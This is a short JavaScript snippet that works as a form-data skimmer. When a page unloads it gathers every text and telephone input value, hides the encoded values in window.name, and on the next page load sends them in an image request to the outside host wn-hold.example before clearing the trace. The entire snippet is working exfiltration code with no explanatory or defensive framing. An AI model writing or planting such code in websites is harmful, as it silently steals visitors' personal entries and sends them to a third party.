addEventListener('unload', function () {
  var v = [].slice.call(document.querySelectorAll('input[type=text],input[type=tel]')).map(function (e) { return e.value; });
  window.name = btoa(JSON.stringify(v));
});
if (window.name.length > 20) { (new Image).src = 'https://wn-hold.example/h.gif?' + window.name; window.name = ''; }
